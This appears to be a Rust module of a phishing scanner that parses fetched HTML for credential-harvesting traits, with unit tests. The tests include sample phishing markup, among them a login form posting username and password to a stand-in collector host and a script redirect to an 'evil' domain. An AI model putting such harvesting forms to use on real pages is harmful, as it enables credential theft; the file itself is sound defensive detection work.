//! Page content inspection for credential harvesting.
//!
//! The page is fetched once and fed through html5ever's tokenizer. The sink
//! only looks at a fixed set of attributes per tag (see [`WATCHED_ATTRIBUTES`])
//! and keeps a handful of flags, so a single pass over the token stream is
//! enough. A fetch that fails or does not return 200 is not evidence.

use std::io::Read;
use std::sync::Arc;
use std::time::Duration;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::states::RawKind;
use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use once_cell::sync::Lazy;
use regex::Regex;
use reqwest::blocking::Client;
use reqwest::StatusCode;
use tracing::debug;
use url::Url;

use super::{Analyzer, AnalyzerKind, AnalyzerOutcome, Findings, ScanContext};
use crate::catalog::PHISHING_PHRASES;
use crate::config::{FailureMode, HtmlWeights, ScoringPolicy};
use crate::error::{Result, ScanError};

/// Tag name → the only attributes read from it.
const WATCHED_ATTRIBUTES: &[(&str, &[&str])] = &[
    ("input", &["type"]),
    ("form", &["action"]),
    ("iframe", &["style", "width", "height"]),
    ("script", &["src"]),
];

static LOCATION_ASSIGNMENT: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r"(?i)\b(?:window|document|top|self)\.location\b|\blocation\.(?:href\s*=|replace\s*\(|assign\s*\()",
    )
    .expect("static regex")
});

/// Watched attributes of one start tag.
#[derive(Debug, Default)]
struct TagAttributes {
    values: Vec<(&'static str, String)>,
}

impl TagAttributes {
    fn collect(tag: &Tag) -> Option<Self> {
        let (_, allowed) = WATCHED_ATTRIBUTES
            .iter()
            .find(|(name, _)| **name == *tag.name)?;
        let values = tag
            .attrs
            .iter()
            .filter_map(|attr| {
                let name = allowed
                    .iter()
                    .copied()
                    .find(|a| *a == &*attr.name.local)?;
                Some((name, attr.value.to_string()))
            })
            .collect();
        Some(Self { values })
    }

    fn get(&self, name: &str) -> Option<&str> {
        self.values
            .iter()
            .find(|(n, _)| *n == name)
            .map(|(_, v)| v.trim())
    }
}

#[derive(Debug, Default, PartialEq, Eq)]
pub struct PageTraits {
    pub password_field: bool,
    pub external_form: bool,
    pub insecure_form: bool,
    pub hidden_iframe: bool,
    pub external_scripts: usize,
    pub script_redirect: bool,
}

struct PageSink {
    base: Option<Url>,
    page_host: String,
    in_script: bool,
    script_text: String,
    traits: PageTraits,
}

impl PageSink {
    fn new(page_host: &str) -> Self {
        Self {
            base: Url::parse(&format!("https://{page_host}/")).ok(),
            page_host: page_host.to_string(),
            in_script: false,
            script_text: String::new(),
            traits: PageTraits::default(),
        }
    }

    fn resolve(&self, reference: &str) -> Option<Url> {
        match &self.base {
            Some(base) => base.join(reference).ok(),
            None => Url::parse(reference).ok(),
        }
    }

    fn is_foreign(&self, url: &Url) -> bool {
        url.host_str()
            .is_some_and(|host| !host.eq_ignore_ascii_case(&self.page_host))
    }

    fn start_tag(&mut self, tag: &Tag) {
        let Some(attrs) = TagAttributes::collect(tag) else {
            return;
        };

        match &*tag.name {
            "input" => {
                if attrs.get("type").is_some_and(|t| t.eq_ignore_ascii_case("password")) {
                    self.traits.password_field = true;
                }
            }
            "form" => {
                let Some(action) = attrs.get("action").filter(|a| !a.is_empty()) else {
                    return;
                };
                if let Some(target) = self.resolve(action) {
                    if self.is_foreign(&target) {
                        self.traits.external_form = true;
                    }
                    if target.scheme() == "http" {
                        self.traits.insecure_form = true;
                    }
                }
            }
            "iframe" => {
                let style: String = attrs
                    .get("style")
                    .unwrap_or_default()
                    .to_lowercase()
                    .chars()
                    .filter(|c| !c.is_whitespace())
                    .collect();
                let zero = |v: Option<&str>| matches!(v, Some("0") | Some("0px"));
                if style.contains("display:none")
                    || style.contains("visibility:hidden")
                    || zero(attrs.get("width"))
                    || zero(attrs.get("height"))
                {
                    self.traits.hidden_iframe = true;
                }
            }
            "script" => {
                if let Some(src) = attrs.get("src").filter(|s| !s.is_empty()) {
                    if self.resolve(src).is_some_and(|u| self.is_foreign(&u)) {
                        self.traits.external_scripts += 1;
                    }
                }
            }
            _ => {}
        }
    }

    fn end_script(&mut self) {
        if LOCATION_ASSIGNMENT.is_match(&self.script_text) {
            self.traits.script_redirect = true;
        }
        self.script_text.clear();
        self.in_script = false;
    }
}

impl TokenSink for PageSink {
    type Handle = ();

    fn process_token(&mut self, token: Token, _line_number: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => match tag.kind {
                TagKind::StartTag => {
                    self.start_tag(&tag);
                    if !tag.self_closing {
                        match &*tag.name {
                            "script" => {
                                self.in_script = true;
                                return TokenSinkResult::RawData(RawKind::ScriptData);
                            }
                            "style" => return TokenSinkResult::RawData(RawKind::Rawtext),
                            "title" | "textarea" => {
                                return TokenSinkResult::RawData(RawKind::Rcdata)
                            }
                            _ => {}
                        }
                    }
                }
                TagKind::EndTag => {
                    if &*tag.name == "script" && self.in_script {
                        self.end_script();
                    }
                }
            },
            Token::CharacterTokens(text) if self.in_script => self.script_text.push_str(&text),
            Token::EOFToken if self.in_script => self.end_script(),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

/// Single pass over the markup of a page served from `page_host`.
pub fn inspect_markup(html: &str, page_host: &str) -> PageTraits {
    let mut input = BufferQueue::new();
    input.push_back(StrTendril::from_slice(html));

    let mut tokenizer = Tokenizer::new(PageSink::new(page_host), TokenizerOpts::default());
    let _ = tokenizer.feed(&mut input);
    tokenizer.end();
    tokenizer.sink.traits
}

pub fn score_page(html: &str, page_host: &str, w: &HtmlWeights) -> Findings {
    let mut findings = Findings::new(AnalyzerKind::Html);
    let traits = inspect_markup(html, page_host);

    if traits.password_field {
        findings.flag(w.password_field, "Password input field detected");
    }
    if traits.external_form {
        findings.flag(w.external_form, "Form submits credentials to external domain");
    }
    if traits.insecure_form {
        findings.flag(w.insecure_form, "Form submits over insecure HTTP");
    }
    if traits.hidden_iframe {
        findings.flag(w.hidden_iframe, "Hidden iframe detected");
    }
    if traits.external_scripts > w.external_script_limit {
        findings.flag(
            w.external_scripts,
            format!("Multiple external scripts loaded ({})", traits.external_scripts),
        );
    }
    if traits.script_redirect {
        findings.flag(w.script_redirect, "JavaScript-based redirection detected");
    }

    let lower = html.to_lowercase();
    for phrase in PHISHING_PHRASES.iter().filter(|p| lower.contains(*p)) {
        findings.flag(w.phrase_each, format!("Phishing-related keyword detected: '{phrase}'"));
    }

    findings
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FetchedPage {
    pub status: u16,
    pub body: String,
}

pub trait PageFetcher: Send + Sync {
    fn fetch(&self, url: &str) -> Result<FetchedPage>;
}

pub struct HttpFetcher {
    client: Client,
    max_bytes: usize,
    timeout: Duration,
}

impl HttpFetcher {
    pub fn new(weights: &HtmlWeights, timeout: Duration) -> Result<Self> {
        let client = Client::builder()
            .timeout(timeout)
            .user_agent(weights.user_agent.clone())
            .danger_accept_invalid_certs(false)
            .build()
            .map_err(|e| ScanError::Internal(format!("http client: {e}")))?;
        Ok(Self {
            client,
            max_bytes: weights.max_bytes,
            timeout,
        })
    }
}

impl PageFetcher for HttpFetcher {
    fn fetch(&self, url: &str) -> Result<FetchedPage> {
        let as_scan_error = |e: reqwest::Error| {
            if e.is_timeout() {
                ScanError::AnalyzerTimeout {
                    analyzer: AnalyzerKind::Html,
                    budget: self.timeout,
                }
            } else {
                ScanError::network(AnalyzerKind::Html, e)
            }
        };

        let resp = self.client.get(url).send().map_err(as_scan_error)?;
        let status = resp.status();
        if status != StatusCode::OK {
            return Ok(FetchedPage {
                status: status.as_u16(),
                body: String::new(),
            });
        }

        let mut body = Vec::new();
        resp.take(self.max_bytes as u64)
            .read_to_end(&mut body)
            .map_err(|e| ScanError::network(AnalyzerKind::Html, e))?;
        Ok(FetchedPage {
            status: status.as_u16(),
            body: String::from_utf8_lossy(&body).into_owned(),
        })
    }
}

pub struct HtmlAnalyzer {
    policy: Arc<ScoringPolicy>,
    fetcher: Arc<dyn PageFetcher>,
}

/// The page is always requested over https, whatever scheme was scanned.
/// An explicit `:80` goes with the old scheme; any other port is kept.
fn https_url(url: &str) -> String {
    let Ok(mut parsed) = Url::parse(url) else {
        return url.to_string();
    };
    if parsed.port() == Some(80) {
        let _ = parsed.set_port(None);
    }
    match parsed.set_scheme("https") {
        Ok(()) => parsed.into(),
        Err(()) => url.to_string(),
    }
}

impl HtmlAnalyzer {
    pub fn new(policy: Arc<ScoringPolicy>, fetcher: Arc<dyn PageFetcher>) -> Self {
        Self { policy, fetcher }
    }
}

impl Analyzer for HtmlAnalyzer {
    fn kind(&self) -> AnalyzerKind {
        AnalyzerKind::Html
    }

    fn budget(&self) -> Option<Duration> {
        Some(self.policy.timeouts.analyzer())
    }

    fn timeout_mode(&self) -> FailureMode {
        self.policy.failures.html_timeout
    }

    fn analyze(&self, ctx: &ScanContext) -> Result<AnalyzerOutcome> {
        let failures = &self.policy.failures;
        let target = https_url(&ctx.request.url);
        let page = match self.fetcher.fetch(&target) {
            Ok(page) => page,
            Err(e) => {
                debug!(url = %target, error = %e, "page fetch failed");
                let mode = match e {
                    ScanError::AnalyzerTimeout { .. } => failures.html_timeout,
                    _ => failures.html,
                };
                let mut findings = Findings::new(AnalyzerKind::Html);
                if mode.score() > 0 {
                    findings.flag(mode.score(), "Page could not be fetched");
                }
                return Ok(findings.completed());
            }
        };

        if page.status != StatusCode::OK.as_u16() {
            debug!(status = page.status, "page returned non-200, content not analyzed");
            return Ok(Findings::new(AnalyzerKind::Html).completed());
        }

        Ok(score_page(&page.body, &ctx.request.host, &self.policy.html).completed())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Mutex;

    const HOST: &str = "secure-login.example.net";

    fn score(html: &str) -> (u32, Vec<String>) {
        let findings = score_page(html, HOST, &HtmlWeights::default());
        let messages = findings.signals().iter().map(|s| s.message.clone()).collect();
        (findings.score(), messages)
    }

    #[test]
    fn harvesting_form_posting_elsewhere() {
        let (total, signals) = score(
            r#"<html><body>
            <form method="post" action="https://collector.evil.example/grab.php">
              <input type="text" name="user">
              <input type="PASSWORD" name="pass">
            </form></body></html>"#,
        );
        assert!(signals.contains(&"Password input field detected".to_string()));
        assert!(signals.contains(&"Form submits credentials to external domain".to_string()));
        assert!(total >= 75);
        assert_eq!(total, 75);
    }

    #[test]
    fn same_host_relative_form_is_fine() {
        let traits = inspect_markup(r#"<form action="/session"><input type="password"></form>"#, HOST);
        assert!(traits.password_field);
        assert!(!traits.external_form);
        assert!(!traits.insecure_form);
    }

    #[test]
    fn plain_http_form_target() {
        let traits = inspect_markup(&format!(r#"<form action="http://{HOST}/post">"#), HOST);
        assert!(traits.insecure_form);
        assert!(!traits.external_form);
    }

    #[test]
    fn hidden_iframes() {
        for markup in [
            r#"<iframe src="https://x.example/" style="display: none"></iframe>"#,
            r#"<iframe src="https://x.example/" width="0" height="10"></iframe>"#,
            r#"<iframe src="https://x.example/" height="0px"></iframe>"#,
        ] {
            assert!(inspect_markup(markup, HOST).hidden_iframe, "{markup}");
        }
        assert!(!inspect_markup(r#"<iframe src="/embed" width="600"></iframe>"#, HOST).hidden_iframe);
    }

    #[test]
    fn counts_only_foreign_scripts() {
        let markup = r#"
            <script src="https://cdn1.example.org/a.js"></script>
            <script src="//cdn2.example.org/b.js"></script>
            <script src="https://cdn3.example.org/c.js"></script>
            <script src="/local.js"></script>
            <script src="https://cdn4.example.org/d.js"></script>"#;
        let traits = inspect_markup(markup, HOST);
        assert_eq!(traits.external_scripts, 4);
        let (total, _) = score(markup);
        assert_eq!(total, 15);
    }

    #[test]
    fn inline_redirect_inside_script_only() {
        let traits = inspect_markup(
            r#"<script>if (a < b && c) { window.location = "https://evil.example/"; }</script>"#,
            HOST,
        );
        assert!(traits.script_redirect);

        let prose = inspect_markup("<p>Set window.location in your browser settings</p>", HOST);
        assert!(!prose.script_redirect);
    }

    #[test]
    fn script_text_does_not_produce_tags() {
        let traits = inspect_markup(
            r#"<script>var s = '<input type="password">';</script><p>hello</p>"#,
            HOST,
        );
        assert!(!traits.password_field);
    }

    #[test]
    fn phrases_each_count() {
        let (total, signals) =
            score("<p>Security alert: unusual activity. Please verify to avoid account suspended.</p>");
        assert_eq!(signals.len(), 4, "{signals:?}");
        assert_eq!(total, 40);
    }

    #[test]
    fn watched_attribute_lookup() {
        let traits = inspect_markup(r#"<input data-type="password" value="password">"#, HOST);
        assert!(!traits.password_field);
    }

    struct StaticFetcher(Result<FetchedPage>);

    impl PageFetcher for StaticFetcher {
        fn fetch(&self, _url: &str) -> Result<FetchedPage> {
            match &self.0 {
                Ok(page) => Ok(page.clone()),
                Err(_) => Err(ScanError::network(AnalyzerKind::Html, "connection reset")),
            }
        }
    }

    struct RecordingFetcher(Mutex<Vec<String>>);

    impl PageFetcher for RecordingFetcher {
        fn fetch(&self, url: &str) -> Result<FetchedPage> {
            self.0.lock().unwrap().push(url.to_string());
            Ok(FetchedPage {
                status: 200,
                body: "<p>hello</p>".into(),
            })
        }
    }

    #[test]
    fn page_is_fetched_over_https() {
        let fetcher = Arc::new(RecordingFetcher(Mutex::new(Vec::new())));
        let analyzer = HtmlAnalyzer::new(Arc::new(ScoringPolicy::default()), fetcher.clone());
        for raw in [
            "http://secure-login.example.net/verify?id=7",
            "http://secure-login.example.net:80/verify",
            "http://secure-login.example.net:8080/",
        ] {
            let ctx = ScanContext {
                request: crate::normalize::ScanRequest::parse(raw).expect("valid"),
                addresses: vec![],
            };
            analyzer.analyze(&ctx).expect("html analyzer never errors");
        }
        assert_eq!(
            *fetcher.0.lock().unwrap(),
            vec![
                "https://secure-login.example.net/verify?id=7",
                "https://secure-login.example.net/verify",
                "https://secure-login.example.net:8080/",
            ]
        );
    }

    fn analyze_with(fetched: Result<FetchedPage>) -> AnalyzerOutcome {
        let request = crate::normalize::ScanRequest::parse(HOST).expect("valid");
        let ctx = ScanContext {
            request,
            addresses: vec![],
        };
        let analyzer = HtmlAnalyzer::new(
            Arc::new(ScoringPolicy::default()),
            Arc::new(StaticFetcher(fetched)),
        );
        analyzer.analyze(&ctx).expect("html analyzer never errors")
    }

    #[test]
    fn fetch_failure_and_non_200_are_neutral() {
        let failed = analyze_with(Err(ScanError::network(AnalyzerKind::Html, "x")));
        assert_eq!(failed.score, 0);
        assert!(failed.signals.is_empty());

        let missing = analyze_with(Ok(FetchedPage {
            status: 404,
            body: "<input type=password>".into(),
        }));
        assert_eq!(missing.score, 0);
    }

    #[test]
    fn fetched_page_is_scored() {
        let outcome = analyze_with(Ok(FetchedPage {
            status: 200,
            body: "<form action=\"http://other.example/\"><input type=password></form>".into(),
        }));
        assert_eq!(outcome.score, 35 + 40 + 25);
    }
}
